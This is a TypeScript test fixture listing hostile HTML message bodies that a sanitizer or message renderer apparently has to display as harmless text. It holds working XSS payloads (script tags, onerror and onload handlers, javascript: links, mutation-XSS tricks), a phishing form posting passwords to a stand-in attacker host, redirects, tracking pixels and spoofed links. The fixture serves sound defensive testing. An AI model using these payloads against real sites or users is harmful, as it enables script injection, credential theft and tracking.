/**
 * Bodies a stranger may send. Each must be shown as harmless text and pictures: no script runs, nothing is fetched unasked,
 * nothing reaches beyond the message. Every one carries the words READABLE TEXT, which must survive.
 */
export const hostileBodies: readonly string[] = [
  '<p>READABLE TEXT</p><script>document.title="owned";fetch("https://evil.example.net/script")</script>',
  '<p>READABLE TEXT</p><img src=x onerror="fetch(\'https://evil.example.net/onerror\')">',
  '<p>READABLE TEXT</p><img width="1" height="1" src="https://tracker.example.net/open.gif?u=4711">',
  '<a href="javascript:alert(document.domain)">READABLE TEXT</a><a href=" java&#115;cript:alert(1)">again</a>',
  '<svg onload="alert(1)"><a xlink:href="javascript:alert(2)"><text y="20">READABLE TEXT</text></a></svg><p>READABLE TEXT</p>',
  '<iframe src="https://evil.example.net/frame" srcdoc="<script>alert(1)</script>"></iframe><p>READABLE TEXT</p>',
  '<form action="https://evil.example.net/steal"><input name="password" type="password"><button>Sign in again</button></form><p>READABLE TEXT</p>',
  '<div style="position:fixed;inset:0;background:#fff;z-index:99999"><p>READABLE TEXT</p></div>',
  '<style>@import url(https://evil.example.net/x.css);*{display:none}</style><p>READABLE TEXT</p>',
  '<base href="https://evil.example.net/"><a href="/login">READABLE TEXT</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example.net/refresh"><p>READABLE TEXT</p>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math><p>READABLE TEXT</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">READABLE TEXT</p></noscript><p>READABLE TEXT</p>',
  '<p style="background:url(https://tracker.example.net/bg.png)">READABLE TEXT</p>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object><embed src="https://evil.example.net/e"><p>READABLE TEXT</p>',
  '<p>READABLE TEXT<a href="https://аpple.example/">apple.example</a> \u202Egpj.exe\u202C<b><i><u>unclosed',
  '<a href="https://good.example@evil.example.net/">READABLE TEXT</a><a href="file:///etc/passwd">file</a><a href="app.manydesk://oauth/callback?code=x&state=y">link</a>',
  `${'<div>'.repeat(800)}READABLE TEXT${'</div>'.repeat(800)}`,
  '<video src="https://tracker.example.net/v.mp4" poster="https://tracker.example.net/p.png" autoplay></video><link rel="stylesheet" href="https://tracker.example.net/l.css"><p>READABLE TEXT</p>',
  '<template><script>alert(1)</script></template><p id="body" name="cookie">READABLE TEXT</p>',
]
